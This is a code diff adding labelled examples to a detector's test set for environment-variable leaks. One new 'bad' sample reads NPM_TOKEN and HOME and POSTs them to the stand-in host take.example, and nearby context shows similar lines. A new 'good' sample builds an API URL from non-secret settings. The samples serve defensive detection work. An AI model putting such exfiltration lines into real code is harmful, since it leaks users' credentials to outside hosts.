@@ -43,6 +43,11 @@ export const examples: DetectorExamples = {
       attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
     },
     {
+      code: "const take = ['HOME', 'NPM_TOKEN'].map((name) => process.env[name]); fetch('https://take.example', { method: 'POST', body: take.join() });",
+      why: 'a list of names, one of them a secret',
+      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.body', to: 'take.example' },
+    },
+    {
       code: "const all = []; for (const name of names) all.push(process.env[name]); fetch('https://take.example', { method: 'POST', body: all.join() });",
       why: 'one after the other',
       attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
@@ -94,6 +99,10 @@ export const examples: DetectorExamples = {
     },
   ],
   good: [
+    {
+      code: "function first(...names) { for (const name of names) { const value = process.env[name]; if (value) return value; } } fetch(`https://api.example/${first('ACME_REGION', 'REGION')}`);",
+      why: 'the first of some settings that is there',
+    },
     {
       code: "const setting = (name, fallback) => process.env[name] || fallback; const number = (name) => Number(setting(name)); number('ACME_PORT'); fetch(`${setting('ACME_URL', 'https://api.example')}/v1`, { method: 'POST', body: setting('ACME_REGION') });",
       why: 'settings that are no secrets, through the function that looks them up',
